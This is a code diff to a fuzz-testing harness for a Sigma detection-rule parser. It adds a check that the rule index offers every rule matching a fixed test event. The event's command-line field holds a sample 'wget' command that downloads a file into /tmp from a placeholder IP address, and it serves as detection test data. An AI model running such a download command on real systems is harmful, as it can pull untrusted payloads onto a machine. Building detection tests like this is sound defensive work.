@@ -4,7 +4,8 @@
  * libyaml, selections, modifiers, regex translation) and its condition
  * parser. The first input byte picks the mode: even, the rest is a whole
  * rule file; odd, the rest is a condition over fixed selection names.
- * A loaded rule is also evaluated against a fixed event.
+ * A loaded rule is also evaluated against a fixed event, and the rule
+ * index (sigma_index.c) must offer it whenever it matches.
  */
 #include <stddef.h>
 #include <stdint.h>
@@ -49,9 +50,17 @@ int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
 		ev.f[SIGMA_F_COMMANDLINE] = "wget -O /tmp/x http://203.0.113.9/";
 		ev.f[SIGMA_F_DESTINATIONIP] = "10.1.2.3";
 		if (sigma_rule_load(text, strlen(text), "fuzz", &r, &cat, reason) == 0) {
+			struct sigma_set set = { .rules = &r, .n = 1 };
+			struct sigma_index *ix = NULL;
+			const size_t *cand;
+
 			(void)sigma_rule_match(r, &ev);
 			ev.cat = sigma_rule_category(r);
-			(void)sigma_rule_match(r, &ev);
+			/* the index never leaves out a rule that matches */
+			if (sigma_index_build(&set, &ix) == 0 && sigma_rule_match(r, &ev) &&
+			    sigma_index_candidates(ix, &ev, &cand) != 1)
+				abort();
+			sigma_index_free(ix);
 			sigma_rule_free(r);
 		}
 	}
